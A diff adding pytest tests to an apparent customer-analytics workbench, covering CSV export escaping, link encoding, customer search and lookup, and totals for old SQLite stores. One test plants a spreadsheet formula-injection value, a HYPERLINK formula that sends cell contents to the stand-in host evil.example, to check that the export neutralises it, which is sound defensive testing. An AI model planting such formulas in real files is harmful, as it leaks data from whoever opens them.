@@ -207,6 +207,31 @@ def test_segment_sizes_filters_and_csv(wh: LocalWarehouse) -> None:
     assert len(back) == len(members)
 
 
+def test_the_csv_export_never_hands_a_spreadsheet_a_formula() -> None:
+    """Names and e-mails come from visitors: ``=HYPERLINK(...)`` in a first name would run
+    when a marketer opens the export in Excel or Sheets."""
+    planted = pd.DataFrame(
+        {
+            "customer_id": ["cus_1", "+cus_2", "cus_3"],
+            "name": ['=HYPERLINK("http://evil.example/?"&A1,"Click") Bob', "@SUM(1)", "Ann"],
+            "email": ["-2+3@x.example", "\tb@x.example", "a@x.example"],
+            "score": [-1.5, 2.0, 3.0],
+        }
+    )
+    back = pd.read_csv(io.BytesIO(wd.members_csv(planted)), keep_default_na=False)
+    cells = [str(v) for column in ("customer_id", "name", "email") for v in back[column]]
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
+    assert back["name"][0] == "'" + planted["name"][0] and back["customer_id"][2] == "cus_3"
+    assert list(back["score"]) == [-1.5, 2.0, 3.0]  # numbers stay numbers
+
+
+def test_deep_links_encode_client_chosen_ids() -> None:
+    link = wd.page_link("customer", customer="anna+news@example.com")
+    assert link == "/customer?customer=anna%2Bnews%40example.com"
+    link = wd.page_link("email", customer="acct#42&x=1", campaign="spring sale")
+    assert link == "/email?customer=acct%2342%26x%3D1&campaign=spring%20sale"
+
+
 def test_stage_history_ends_where_the_profiles_are(wh: LocalWarehouse) -> None:
     end = wd.now_ms()
     history = wd.stage_history(wh, PARAMS, end_ms=end, days=7)
@@ -225,6 +250,14 @@ def test_search_by_id_email_and_anonymous_id(wh: LocalWarehouse, result: ReplayR
     top = wd.search_customers(wh, "", limit=5)
     assert len(top) == 5 and top["cis"].is_monotonic_decreasing
     assert not top["is_anonymous"].any()
+    # with a clock, the list shows score and stage now, as the page beside it does
+    later = wd.now_ms() + 60 * 86_400_000
+    now = wd.search_customers(wh, "", limit=5, params=PARAMS, at_ms=later)
+    assert now["cis"].is_monotonic_decreasing
+    for row in now.to_dict("records"):
+        expected = wd.member_row(wh.get_profile(row["customer_id"]), PARAMS, later)
+        assert (row["cis"], row["intent_stage"]) == (expected["score"], expected["intent_stage"])
+    assert set(now["intent_stage"]) != set(top["intent_stage"]) or not now["cis"].equals(top["cis"])
 
     customer = _known(result)[0]
     cid = str(customer["customer_id"])
@@ -279,8 +312,15 @@ def test_customer_360(wh: LocalWarehouse, result: ReplayResult) -> None:
     device = next(iter(devices))
     assert wd.customer_360(wh, device, PARAMS, at_ms=at).customer_id == cid
     assert wd.customer_360(wh, f"anon:{device}", PARAMS, at_ms=at).customer_id == cid
-    with pytest.raises(ProfileNotFoundError):
+    with pytest.raises(ProfileNotFoundError, match="nobody-at-all"):
         wd.customer_360(wh, "nobody-at-all", PARAMS, at_ms=at)
+    # a visitor who never signed in, by the raw anonymous id a link or a search shows
+    anonymous = next(
+        p for p in result.profiles.values() if p["is_anonymous"] and p["merged_into"] is None
+    )
+    raw = str(anonymous["customer_id"]).removeprefix("anon:")
+    view = wd.customer_360(wh, raw, PARAMS, at_ms=at)
+    assert (view.customer_id, view.requested_id) == (anonymous["customer_id"], raw)
 
 
 def test_reads_while_a_writer_commits(tmp_path: Path) -> None:
@@ -341,3 +381,21 @@ def test_open_alerts_newest_per_kind_and_subject_relative_to_data_time(tmp_path:
     assert handle is not None
     assert wd.open_alerts(handle).empty
     handle.close()
+
+
+def test_totals_of_a_store_older_than_some_tables(tmp_path: Path) -> None:
+    """A store written before segment changes and triggers existed, opened read-only (the
+    workbench never migrates): its totals count those tables as empty instead of failing."""
+    import sqlite3
+
+    path = tmp_path / "warehouse.sqlite"
+    with LocalWarehouse(path) as writer:
+        writer.write_events([make_event(ingested_ms=wd.now_ms()).to_dict()])
+    with sqlite3.connect(path) as conn:
+        conn.execute("DROP TABLE segment_changes")
+        conn.execute("DROP TABLE email_triggers")
+    reader = wd.open_warehouse(path)
+    assert reader is not None
+    totals = wd.totals(reader)
+    assert (totals["events"], totals["segment_changes"], totals["email_triggers"]) == (1, 0, 0)
+    reader.close()
